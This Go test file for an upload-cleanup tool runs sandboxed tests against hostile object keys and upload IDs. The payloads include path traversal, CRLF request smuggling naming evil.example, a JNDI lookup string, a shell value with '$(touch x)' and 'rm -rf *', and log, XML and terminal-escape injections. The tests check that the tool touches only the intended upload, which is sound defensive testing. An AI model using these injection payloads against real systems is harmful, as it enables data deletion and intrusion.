package adversary

import (
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/partsweep/partsweep/shared/mpu"
	"github.com/partsweep/partsweep/test/sandbox"
)

// hostileKeys look like something else than a key: to us, to a URL, to a file system, to a log.
var hostileKeys = map[string]string{
	"a request":                "raw/a?uploadId=decoy&before=2026-01-01T00:00:00Z",
	"another request":          "s3://payroll/raw/a?uploadId=decoy",
	"a URL":                    "https://evil.example/raw/a",
	"an encoded question mark": "raw/a%3FuploadId=decoy",
	"encoded twice":            "raw/a%253FuploadId%253Ddecoy",
	"a query":                  "raw/a?uploads",
	"a second upload ID":       "raw/a&uploadId=decoy",
	"a fragment":               "raw/a#decoy",
	"plus signs":               "raw/a+b++",
	"blanks":                   "raw/a b  ",
	"percent signs":            "raw/a%b%%2",
	"encoded slash":            "raw/a%2Fb",
	"up":                       "raw/../../payroll/raw/a",
	"up at once":               "../payroll/raw/a",
	"encoded up":               "raw/%2e%2e/%2e%2e/payroll/raw/a",
	"here":                     "./raw/./a",
	"slashes":                  "//raw///a//",
	"a slash":                  "/",
	"a backslash":              `raw\..\a`,
	"a NUL":                    "raw/a\x00decoy",
	"a line break":             "raw/a\nDELETE /payroll HTTP/1.1\r\nHost: evil.example\r\n\r\n",
	"a header":                 "raw/a HTTP/1.1\r\nX-Evil: yes",
	"a terminal's escape":      "raw/\x1b[2J\x1b[31mfailed\x07",
	"a line of a log":          "raw/a\n{\"time\":\"2026-11-03T10:00:00Z\",\"level\":\"INFO\",\"msg\":\"aborted\"}",
	"the end of a string":      `raw/a","msg":"aborted","x":"`,
	"the end of an element":    "raw/a</Key></Upload><Upload><Key>decoy</Key>",
	"a reference":              "raw/a&amp;&#0;&lt;",
	"separators of lines":      "raw/a\u2028b\u2029c\u0085d",
	"turned around":            "raw/\u202efxm.a",
	"bytes that are no text":   "raw/\xff\xfe\x80",
	"a template":               "raw/${jndi:ldap://evil.example/a}{{.}}%s%n",
	"a shell":                  "raw/$(touch x)`id`;rm -rf *|'\"",
	"as long as may be":        strings.Repeat("raw/", 200),
	"several words":            "raw/a s3://payroll/raw/a",
	"a comma":                  "raw/a,raw/b",
}

// hostileIDs are upload IDs of the same kind.
var hostileIDs = map[string]string{
	"a second parameter":   "id&uploadId=decoy",
	"another operation":    "id&uploads&delete",
	"a fragment":           "id#decoy",
	"plus":                 "id+decoy ++",
	"percent":              "id%26decoy%",
	"a path":               "../../payroll/raw/a?uploadId=decoy",
	"a line break":         "id\r\nX-Evil: yes\r\n\r\nDELETE /payroll HTTP/1.1",
	"a NUL":                "id\x00decoy",
	"a terminal's escape":  "\x1b]0;id\x07",
	"a line of a log":      "id\n{\"level\":\"INFO\"}",
	"bytes":                "\xff\xfe",
	"a star":               "*",
	"a word of the API":    "uploads",
	"of another store":     "s3://payroll/raw/a?uploadId=decoy",
	"a thousand and more":  strings.Repeat("id-", 400),
	"an equals sign":       "id==",
	"a semicolon":          "id;decoy",
	"what ends a document": "id</UploadId>",
}

// A bearer is a source that names a key, and how it writes it.
type bearer struct {
	name     string
	services []sandbox.Service // nil for all
	keyOnly  bool              // it knows no upload ID, and so is about every upload of the key
	event    func(u mpu.Upload) string
}

var bearers = []bearer{
	{"failure, as a request", nil, false, failed},
	{"failure, as fields", nil, false, func(u mpu.Upload) string {
		return fmt.Sprintf(`{"type":"upload-failed","store":%q,"region":%q,"bucket":%q,"key":%s,"uploadId":%s,"failedAt":%q}`,
			u.Bucket.Store, u.Bucket.Region, u.Bucket.Name, quote(u.Key), quote(u.UploadID), old.Add(time.Hour).Format(time.RFC3339))
	}},
	{"by hand", nil, false, func(u mpu.Upload) string { return `{"request":` + quote(u.String()) + `,"apply":true}` }},
	{"sqs", nil, false, func(u mpu.Upload) string {
		return fmt.Sprintf(`{"Records":[{"eventSource":"aws:sqs","messageId":"1","body":%s}]}`, quote(failed(u)))
	}},
	{"cloudtrail", []sandbox.Service{sandbox.S3}, false, func(u mpu.Upload) string {
		return fmt.Sprintf(`{"detail-type":"AWS API Call via CloudTrail","source":"aws.s3","detail":{"eventSource":"s3.amazonaws.com",
			"eventName":"CompleteMultipartUpload","errorCode":"InvalidPart","eventTime":%q,"awsRegion":%q,"recipientAccountId":"1",
			"userIdentity":{"accountId":"1"},"requestParameters":{"bucketName":%q,"key":%s,"uploadId":%s}}}`,
			old.Add(time.Hour).Format(time.RFC3339), u.Bucket.Region, u.Bucket.Name, quote(u.Key), quote(u.UploadID))
	}},
	{"s3 notification", []sandbox.Service{sandbox.S3}, true, func(u mpu.Upload) string {
		return fmt.Sprintf(`{"Records":[{"eventSource":"aws:s3","eventName":"ObjectCreated:CompleteMultipartUpload","eventTime":%q,"awsRegion":%q,
			"s3":{"bucket":{"name":%q},"object":{"key":%q}}}]}`, old.Add(time.Hour).Format(time.RFC3339), u.Bucket.Region, u.Bucket.Name, url.QueryEscape(u.Key))
	}},
	{"s3 batch", []sandbox.Service{sandbox.S3}, false, func(u mpu.Upload) string {
		packed := fmt.Sprintf(`{"k":%s,"u":%s}`, quote(u.Key), quote(u.UploadID))
		return fmt.Sprintf(`{"invocationSchemaVersion":"2.0","invocationId":"1","job":{"id":"1","userArguments":{"olderThan":"48h"}},
			"tasks":[{"taskId":"1","s3Bucket":%q,"s3Key":%q}]}`, u.Bucket.Name, url.PathEscape(packed))
	}},
	{"oss trigger", []sandbox.Service{sandbox.OSS}, true, func(u mpu.Upload) string {
		return fmt.Sprintf(`{"events":[{"eventSource":"acs:oss","eventName":"ObjectCreated:CompleteMultipartUpload","eventTime":%q,"region":%q,
			"oss":{"bucket":{"name":%q},"object":{"key":%s}}}]}`, old.Add(time.Hour).Format(time.RFC3339), u.Bucket.Region, u.Bucket.Name, quote(u.Key))
	}},
	{"cos trigger", []sandbox.Service{sandbox.COS}, true, func(u mpu.Upload) string {
		name, account, _ := strings.Cut(u.Bucket.Name, "-")
		return fmt.Sprintf(`{"Records":[{"event":{"eventName":"cos:ObjectCreated:CompleteMultipartUpload","eventTime":%d},
			"cos":{"cosBucket":{"name":%q,"appid":%q},"cosObject":{"key":%s}}}]}`, old.Add(time.Hour).Unix(), name, account,
			quote("/"+account+"/"+name+"/"+u.Key))
	}},
}

// decoys are uploads that would be hit if a name were read in another way.
func (w *world) decoys(mine mpu.Upload, keyOnly bool) (decoys []mpu.Upload) {
	unescaped, _ := url.PathUnescape(mine.Key)
	form, _ := url.QueryUnescape(mine.Key)
	keys := []string{path.Clean(mine.Key), strings.TrimPrefix(path.Clean("/"+mine.Key), "/"), unescaped, form, strings.TrimSpace(mine.Key),
		strings.ToLower(mine.Key), strings.ToUpper(mine.Key), strings.ToValidUTF8(mine.Key, "\ufffd"), "raw/a", "decoy", mine.Key + "/", mine.Key + "x"}
	for _, cut := range []string{"?", "#", "&", "%", "\n", "\r", "\x00", " ", "+", "</"} {
		before, _, _ := strings.Cut(mine.Key, cut)
		keys = append(keys, before)
	}
	ids := []string{mine.UploadID, "decoy"}
	for _, cut := range []string{"&", "#", "?", "%", "\n", "\r", "\x00", "+", "</", ";", "="} {
		before, _, _ := strings.Cut(mine.UploadID, cut)
		ids = append(ids, before)
	}
	for _, bucket := range []mpu.Bucket{mine.Bucket, theirs[sandbox.Service(mine.Bucket.Store)]} {
		seen := map[mpu.Upload]bool{mine: true}
		for _, key := range append(keys, mine.Key) {
			for _, id := range ids {
				u := mpu.Upload{Bucket: bucket, Key: key, UploadID: id}
				if key == "" || id == "" || seen[u] || len(key) > 800 || keyOnly && bucket == mine.Bucket && key == mine.Key {
					continue
				}
				seen[u] = true
				decoys = append(decoys, w.seed(u.Bucket, u.Key, u.UploadID))
			}
		}
	}
	return decoys
}

// exactly fails the test unless everything that was sent is about one upload, to the letter.
func (w *world) exactly(t *testing.T, mine mpu.Upload) (aborts int) {
	t.Helper()
	for _, e := range w.Ledger() {
		asked, err := url.Parse(e.URI)
		if err != nil {
			t.Errorf("sent %q", e.URI)
			continue
		}
		query := asked.Query()
		switch e.Op {
		case sandbox.OpListUploads:
			// To look an upload up, or all of a key's, its bucket is listed by the key as prefix.
			query.Del("encoding-type")
			if want := (url.Values{"uploads": {""}, "prefix": {mine.Key}}); e.Bucket != mine.Bucket.Name || query.Encode() != want.Encode() {
				t.Errorf("sent %+v %s", e.Target, e.URI)
			}
		case sandbox.OpListParts, sandbox.OpAbort:
			if want := (url.Values{"uploadId": {mine.UploadID}}); e.Bucket != mine.Bucket.Name || e.Key != mine.Key || e.UploadID != mine.UploadID ||
				query.Encode() != want.Encode() {
				t.Errorf("sent %+v %s, want %q %q", e.Target, e.URI, mine.Key, mine.UploadID)
			}
			if e.Op == sandbox.OpAbort {
				aborts++
			}
		default:
			t.Errorf("sent %+v %s", e.Target, e.URI)
		}
	}
	return aborts
}

// TestHostileKeys has every source that names a key name one that looks like something else. What is sent is about that
// key in that bucket and nothing else, or nothing is sent and the sender is told.
func TestHostileKeys(t *testing.T) {
	names := map[string]mpu.Upload{}
	for name, key := range hostileKeys {
		names["key, "+name] = mpu.Upload{Key: key, UploadID: "id-1"}
	}
	for name, id := range hostileIDs {
		names["ID, "+name] = mpu.Upload{Key: "raw/a b+c", UploadID: id}
	}
	for _, s := range objectStores {
		for _, b := range bearers {
			if b.services != nil && !slices.Contains(b.services, s) {
				continue
			}
			t.Run(string(s)+"/"+b.name, func(t *testing.T) {
				arrived := 0
				for _, name := range slices.Sorted(maps.Keys(names)) {
					mine := names[name]
					mine.Bucket = ours[s]
					if !t.Run(name, func(t *testing.T) { arrived += b.attack(t, mine) }) {
						break
					}
				}
				if arrived < len(names)/3 || b.name == bearers[0].name && arrived < len(names) {
					t.Errorf("%d of %d names arrived, which proves little", arrived, len(names))
				}
			})
		}
	}
}

// attack sends one event about one upload into a world of its own, and returns 1 if the upload was aborted.
func (b bearer) attack(t *testing.T, mine mpu.Upload) (arrived int) {
	w := newWorld(t)
	decoys := w.decoys(mine, b.keyOnly)
	w.seed(mine.Bucket, mine.Key, mine.UploadID)
	_, err := w.run(t, b.event(mine))
	aborts := w.exactly(t, mine)
	switch {
	case len(w.sent()) == 0:
		told(t, err)
	case err != nil || aborts == 0 || w.there(mine):
		t.Errorf("%d aborts, still there: %v, %v", aborts, w.there(mine), err)
	default:
		arrived = 1
	}
	for _, u := range decoys {
		if !w.there(u) {
			t.Errorf("%s is gone", u)
		}
	}
	w.checkLog(t)
	return arrived
}

// TestHostileKeysInListings has the store name the uploads: each is inspected and aborted under exactly its own name, and
// what it is called never becomes a line of the log.
func TestHostileKeysInListings(t *testing.T) {
	for _, s := range objectStores {
		t.Run(string(s), func(t *testing.T) {
			w := newWorld(t)
			want := map[sandbox.Target]bool{}
			for _, key := range hostileKeys {
				u := w.seed(ours[s], key, "id-1")
				want[sandbox.Target{Service: s, Op: sandbox.OpAbort, Bucket: u.Bucket.Name, Key: u.Key, UploadID: u.UploadID}] = true
			}
			for _, id := range hostileIDs {
				u := w.seed(ours[s], "raw/a b+c", id)
				want[sandbox.Target{Service: s, Op: sandbox.OpAbort, Bucket: u.Bucket.Name, Key: u.Key, UploadID: u.UploadID}] = true
			}
			report, err := w.run(t, sweepOf(ours[s]))
			if err != nil || report.Totals.Aborted != len(want) {
				t.Errorf("%+v, %v; want %d aborted", report.Totals, err, len(want))
			}
			for _, target := range w.sent() {
				if target.Op == sandbox.OpAbort && !want[target] || target.Bucket != ours[s].Name {
					t.Errorf("sent %+v", target)
				}
			}
			w.checkLog(t)
		})
	}
}

// TestLongNames: what is longer than any store's names is refused before anything is sent.
func TestLongNames(t *testing.T) {
	w := newWorld(t)
	for _, n := range []int{4097, 100_000} {
		for field, u := range map[string]mpu.Upload{
			"key": {Key: strings.Repeat("k", n), UploadID: "id-1"}, "uploadId": {Key: "raw/a", UploadID: strings.Repeat("i", n)},
		} {
			u.Bucket = ours[sandbox.S3]
			_, err := w.run(t, failed(u))
			says(t, err, "at most 4096 bytes")
			if err != nil && len(err.Error()) > 1000 {
				t.Errorf("%s: an error of %d bytes", field, len(err.Error()))
			}
		}
	}
	if sent := w.sent(); len(sent) > 0 {
		t.Errorf("sent %+v", sent)
	}
}

// TestHostileMedia does the same for the services that have media IDs in place of keys, and take several with commas between
// them.
func TestHostileMedia(t *testing.T) {
	ids := []string{"one,bait", "bait,", ",bait", "one bait", "one&MediaId=bait", "one#bait", "one%2Cbait", "one%00", "../bait", "one\nbait", "one;bait",
		"one\x00bait", "one\uff0cbait", "*", "one=bait", "{\"MediaId\":\"bait\"}", "<MediaId>bait</MediaId>", strings.Repeat("one", 1000)}
	for _, s := range []sandbox.Service{sandbox.VOD, sandbox.MPS} {
		for _, id := range ids {
			t.Run(fmt.Sprintf("%s/%.40q", s, id), func(t *testing.T) {
				w := newWorld(t)
				u := mpu.Upload{Bucket: ours[s], Key: id, UploadID: id}
				bait := w.seed(ours[s], "bait", "")
				named := s == sandbox.MPS && slices.Contains(strings.Split(id, ","), "bait") // MPS takes several
				for _, event := range []string{failed(u), fmt.Sprintf(`{"type":"upload-failed","store":%q,"region":%q,"mediaId":%s,"failedAt":%q}`,
					s, u.Bucket.Region, quote(id), old.Add(time.Hour).Format(time.RFC3339))} {
					w.run(t, event)
				}
				if !w.there(bait) && !named {
					t.Error("the bait is gone")
				}
				for _, target := range w.sent() {
					if target.Bucket != ours[s].Name || !named && target.Key != id {
						t.Errorf("sent %+v", target)
					}
				}
				w.checkLog(t)
			})
		}
	}
}

// TestPathsThatAreCleaned: what stands in front of a store may take ".." for a way up. The signature is for the path as it
// was written, so the store then refuses what it would have done to another upload, or in another bucket.
func TestPathsThatAreCleaned(t *testing.T) {
	for _, s := range objectStores {
		for _, key := range []string{"raw/../../payroll/raw/bait", "raw/../bait", "raw//bait", "raw/./bait"} {
			t.Run(string(s)+"/"+key, func(t *testing.T) {
				var environ []string
				if s == sandbox.S3 {
					environ = []string{"PARTSWEEP_S3_PATH_STYLE=true"}
				}
				w := newWorld(t, environ...)
				w.cleanPaths(t, s)
				var baits []mpu.Upload
				for _, b := range []mpu.Bucket{ours[s], theirs[s]} {
					for _, k := range []string{"raw/bait", "bait", "payroll/raw/bait"} {
						baits = append(baits, w.seed(b, k, "id-1"))
					}
				}
				_, err := w.run(t, failed(mpu.Upload{Bucket: ours[s], Key: key, UploadID: "id-1"}))
				says(t, err, "SignatureDoesNotMatch")
				for _, bait := range baits {
					if !w.there(bait) {
						t.Errorf("%s is gone", bait)
					}
				}
			})
		}
	}
}

// cleanPaths puts a proxy in front of a service that cleans paths.
func (w *world) cleanPaths(t *testing.T, s sandbox.Service) {
	t.Helper()
	to := w.plain[s]
	proxy := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		decoded, err := url.PathUnescape(r.URL.EscapedPath())
		if err != nil {
			http.Error(rw, err.Error(), http.StatusBadRequest)
			return
		}
		out := r.Clone(r.Context())
		out.RequestURI, out.URL.Scheme, out.URL.Host = "", "http", to
		out.URL.Path, out.URL.RawPath = path.Clean(decoded), ""
		resp, err := http.DefaultTransport.RoundTrip(out)
		if err != nil {
			http.Error(rw, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		maps.Copy(rw.Header(), resp.Header)
		rw.WriteHeader(resp.StatusCode)
		io.Copy(rw, resp.Body)
	}))
	t.Cleanup(proxy.Close)
	w.plain[s] = strings.TrimPrefix(proxy.URL, "http://")
}
